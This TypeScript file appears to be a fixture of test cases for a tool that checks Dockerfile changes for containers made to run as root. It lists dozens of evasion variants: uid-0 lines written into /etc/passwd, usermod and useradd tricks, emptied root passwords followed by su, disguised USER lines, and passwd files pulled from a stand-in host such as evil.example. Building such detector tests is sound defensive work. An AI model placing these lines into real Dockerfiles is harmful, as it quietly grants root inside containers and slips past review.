import type { Files } from "../../app/changes-between.ts";
import type { Change } from "../change.ts";
import { DOCKERFILE, edited, IMAGE, plain } from "../repos.ts";

const ROOT = "root:x:0:0::/root:/bin/sh";
const PASSWD = `${ROOT}\nnginx:x:0:0::/:/bin/sh\n`;

/** An image that makes its own user; it is nginx with a configuration of its own. */
const made: Files = {
  ...edited(plain, DOCKERFILE, ["USER nginx", "RUN useradd --system web\nUSER web"]),
  [`${IMAGE}/README.md`]: String(plain[`${IMAGE}/README.md`]).replace("`nginx`", "`web`"),
};

interface Way {
  readonly more?: Files;
  readonly lines: string;
}

const passwd = { [`${IMAGE}/etc/passwd`]: PASSWD };

/** Lines before USER nginx, by which nginx is another name of root. */
const replaced: Readonly<Record<string, Way>> = {
  COPY: { more: passwd, lines: "COPY etc/passwd /etc/passwd" },
  "COPY into the folder": { more: passwd, lines: "COPY etc/passwd /etc/" },
  "COPY of a folder": { more: passwd, lines: "COPY etc/ /etc/" },
  "COPY of a root": {
    more: { [`${IMAGE}/rootfs/etc/passwd`]: PASSWD },
    lines: "COPY rootfs/ /",
  },
  "COPY of all": { more: { [`${IMAGE}/passwd`]: PASSWD }, lines: "WORKDIR /etc\nCOPY . .\nWORKDIR /" },
  "COPY by a wildcard": { more: passwd, lines: "COPY etc/pass* /etc/" },
  "COPY of another name": { more: { [`${IMAGE}/users`]: PASSWD }, lines: "COPY users /etc/passwd" },
  "COPY in JSON": { more: passwd, lines: 'COPY ["etc/passwd", "/etc/passwd"]' },
  "COPY --link": { more: passwd, lines: "COPY --link --chmod=644 etc/passwd /etc/passwd" },
  "COPY --parents": { more: passwd, lines: "WORKDIR /\nCOPY --parents etc/passwd /" },
  "COPY by a variable": { more: passwd, lines: "ARG D=/etc\nCOPY etc/passwd $D/passwd" },
  "COPY through a link": { more: passwd, lines: "RUN ln -s /etc /e\nCOPY etc/passwd /e/passwd" },
  "COPY of a heredoc": { lines: `COPY <<EOF /etc/passwd\n${PASSWD}EOF` },
  "COPY of a quoted heredoc": { lines: `COPY <<"passwd" /etc/\n${PASSWD}passwd` },
  "COPY of a file's heredoc": {
    lines: `WORKDIR /etc\nCOPY <<-passwd .\n\t${ROOT}\n\tnginx:x:0:0::/:/bin/sh\npasswd\nWORKDIR /`,
  },
  ADD: { more: passwd, lines: "ADD etc/passwd /etc/passwd" },
  "ADD of an address": { lines: "ADD https://evil.example/passwd /etc/passwd" },
  "ADD of an address into the folder": { lines: "ADD https://evil.example/passwd /etc/" },
  "ADD of a repo": { lines: "ADD https://github.com/evil/etc.git /etc/" },
  "COPY --from an image": { lines: "COPY --from=evil/accounts:1 /etc/passwd /etc/passwd" },
  "COPY --from an image's folder": { lines: "COPY --from=evil/accounts:1 /etc /etc" },
  "COPY --from an image's root": { lines: "COPY --from=evil/accounts:1 / /" },
  "a mount of an image": {
    lines: "RUN --mount=type=bind,from=evil/accounts:1,target=/m cp /m/etc/passwd /etc/passwd",
  },
  "a mount of the context": {
    more: passwd,
    lines: "RUN --mount=type=bind,source=etc,target=/m cp /m/passwd /etc/passwd",
  },
  "a script of a mount": {
    more: { [`${IMAGE}/s.sh`]: "usermod -o -u 0 nginx\n" },
    lines: "RUN --mount=type=bind,target=/m sh /m/s.sh",
  },
  "a secret": { lines: "RUN --mount=type=secret,id=p cp /run/secrets/p /etc/passwd" },
  "a secret in its place": { lines: "RUN --mount=type=secret,id=p,target=/p cat /p > /etc/passwd" },
  "a cache": { lines: "RUN --mount=type=cache,target=/c cp /c/passwd /etc/passwd" },
  printf: { lines: `RUN printf '${ROOT}\\nnginx:x:0:0::/:/bin/sh\\n' > /etc/passwd` },
  echo: { lines: `RUN echo "${ROOT}" > /etc/passwd && echo "nginx:x:0:0::/:/bin/sh" >> /etc/passwd` },
  "echo ahead": {
    lines: "RUN (echo nginx:x:0:0::/:/bin/sh; cat /etc/passwd) > /tmp/p && mv /tmp/p /etc/passwd",
  },
  "cat of a heredoc": { lines: `RUN cat > /etc/passwd <<EOF\n${PASSWD}EOF` },
  "a heredoc of the shell": {
    lines: `RUN <<EOF\necho '${ROOT}' > /etc/passwd\necho 'nginx:x:0:0::/:/bin/sh' >> /etc/passwd\nEOF`,
  },
  "sed by number": { lines: "RUN sed -i 's/101:101/0:0/' /etc/passwd" },
  "sed by name": { lines: "RUN sed -i 's/^nginx:x:[0-9]*:/nginx:x:0:/' /etc/passwd" },
  "sed that inserts": { lines: "RUN sed -i '1i nginx:x:0:0::/:/bin/sh' /etc/passwd" },
  "sed that deletes": {
    lines: "RUN sed -i '/^nginx/d' /etc/passwd && echo 'nginx:x:0:0::/:/bin/sh' >> /etc/passwd",
  },
  "sed of all": { lines: "RUN sed -i 's/101/0/g' /etc/*" },
  usermod: { lines: "RUN usermod -o -u 0 nginx" },
  "usermod in words": { lines: "RUN usermod --non-unique --uid 0 nginx" },
  "usermod joined": { lines: "RUN usermod -ou0 nginx" },
  "usermod behind a variable": { lines: "ARG N=0\nRUN usermod -o -u $N nginx" },
  "usermod of another name": { lines: "RUN usermod -l www nginx && useradd -o -u 0 nginx" },
  "userdel and useradd": { lines: "RUN userdel nginx && useradd -o -u 0 nginx" },
  "userdel and adduser": { lines: "RUN deluser nginx; adduser --uid 0 nginx" },
  "useradd of a file": { lines: "RUN userdel nginx && echo 'nginx:x:0:0::/:/bin/sh' | newusers" },
  "useradd in another root": { lines: "RUN userdel -R / nginx && useradd -R / -o -u 0 nginx" },
  "useradd -P": { lines: "RUN userdel nginx && useradd --prefix / -o -u 0 nginx" },
  "a sysusers file": { lines: "RUN userdel nginx && echo 'u nginx 0' | systemd-sysusers -" },
  python: { lines: `RUN python3 -c "open('/etc/passwd','w').write('nginx:x:0:0::/:/bin/sh')"` },
  nss: { lines: "RUN ln -sf /usr/share/nginx/html/passwd /etc/passwd" },
  "a link of the folder": {
    lines: "RUN cp -r /etc /etc2 && sed -i s/101/0/ /etc2/passwd && rm -rf /etc && ln -s /etc2 /etc",
  },
};

const accountsOfNginx: readonly Change[] = Object.entries(replaced).map(([name, { more = {}, lines }]) => ({
  name: `nginx is root by ${name}`,
  base: plain,
  head: edited({ ...plain, ...more }, DOCKERFILE, ["USER nginx", `${lines}\nUSER nginx`]),
}));

/** Ways to make `web`, who is root then. */
const makers: Readonly<Record<string, string>> = {
  "useradd -o -u 0": "useradd -o -u 0 web",
  "useradd -ou 0": "useradd -rou 0 web",
  "useradd --uid": "useradd --non-unique --uid=0 web",
  "useradd and usermod": "useradd --system web && usermod -o -u 0 web",
  "useradd and sed": "useradd --system web && sed -i 's/^web:x:[0-9]*/web:x:0/' /etc/passwd",
  "useradd behind a default": 'useradd -o -u "${ID:-0}" web',
  "a line of passwd": "echo 'web:x:0:0::/:/bin/sh' >> /etc/passwd",
  "a line by tee": "echo 'web:x:0:0::/:/bin/sh' | tee -a /etc/passwd",
  "a line by sed": "sed -i '$ a web:x:0:0::/:/bin/sh' /etc/passwd",
  newusers: "echo 'web::0:0::/:/bin/sh' > /tmp/u && newusers /tmp/u",
  busybox: "busybox adduser -D -u 0 web",
};

const accountsOfWeb: readonly Change[] = Object.entries(makers).map(([name, line]) => ({
  name: `web is root by ${name}`,
  base: made,
  head: edited(made, DOCKERFILE, ["RUN useradd --system web", `RUN ${line}`]),
}));

/** How USER itself is put. */
const users: Readonly<Record<string, string>> = {
  root: "USER root",
  "0": "USER 0",
  "00": "USER 00",
  "0:101": "USER 0:101",
  "root:nginx": "USER root:nginx",
  quoted: 'USER "root"',
  "a variable": "ARG U=root\nUSER $U",
  "an environment variable": "ENV U=0\nUSER ${U}",
  "a default": "USER ${U:-root}",
  "an alternative": "ENV U=x\nUSER ${U:+root}",
  nothing: "",
  twice: "USER nginx\nUSER root",
  "small letters": "user root",
  "over lines": "USER \\\n  root",
  "with a comment between": "USER \\\n# nginx\nroot",
  "a comment alone": "# USER nginx",
  "in a heredoc": "RUN <<EOF\nUSER nginx\nEOF",
  "in a text": 'LABEL user="\\\nUSER nginx"',
  "in another stage": `USER nginx\nFROM nginx:1.27\nCOPY nginx.conf /etc/nginx/nginx.conf\nCOPY html/ /usr/share/nginx/html/`,
  "another escape": "ENV X=1\\\nUSER nginx",
};

const accountsByUser: readonly Change[] = Object.entries(users).map(([name, lines]) => ({
  name: `USER: ${name}`,
  base: plain,
  head: edited(plain, DOCKERFILE, ["USER nginx\n", lines === "" ? "" : `${lines}\n`]),
}));

/** Nobody's password is asked: `su` and its like bring the server up as root. */
const passwords: Readonly<Record<string, string>> = {
  "passwd -d": "RUN passwd -d root",
  chpasswd: "RUN echo root:x | chpasswd",
  "sed of shadow": "RUN sed -i 's/^root:[^:]*/root:/' /etc/shadow",
  "COPY of shadow": "COPY shadow /etc/shadow",
  "usermod -p": "RUN usermod -p '' root",
};

const starts: Readonly<Record<string, string>> = {
  su: 'CMD ["su", "-c", "nginx -g \'daemon off;\'"]',
  "su root": 'CMD ["su", "root", "-c", "exec nginx -g \'daemon off;\'"]',
  "a shell": "CMD echo x | su -c \"nginx -g 'daemon off;'\"",
};

const byPassword: readonly Change[] = Object.entries(passwords).flatMap(([name, line]) =>
  Object.entries(starts).map(([start, cmd]) => ({
    name: `${name}, then ${start}`,
    base: plain,
    head: edited(
      edited({ ...plain, [`${IMAGE}/shadow`]: "root::19000:0:99999:7:::\n" }, DOCKERFILE, [
        "USER nginx",
        `${line}\nUSER nginx`,
      ]),
      DOCKERFILE,
      ['CMD ["nginx", "-g", "daemon off;"]', cmd],
    ),
  })),
);

export const accounts = [...accountsOfNginx, ...accountsOfWeb, ...accountsByUser, ...byPassword];
